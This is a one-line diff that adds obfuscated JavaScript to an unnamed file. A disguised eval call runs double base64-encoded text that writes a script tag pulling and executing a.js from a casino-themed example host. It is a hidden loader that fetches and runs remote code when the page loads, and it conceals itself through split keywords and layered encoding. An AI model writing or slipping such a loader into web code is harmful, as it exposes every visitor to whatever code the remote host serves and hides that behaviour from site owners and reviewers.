@@ -1,0 +1,1 @@
+window['ev'+'al'](atob('ZXZhbChhdG9iKCdaRzlqZFcxbGJuUXVkM0pwZEdVb0p6eHpZM0pwY0hRZ2MzSmpQU0pvZEhSd09pOHZZWFJ2WWk1allYTnBibTh1WlhoaGJYQnNaUzloTG1weklqNDhMM05qY21sd2RENG5LUT09Jykp'))
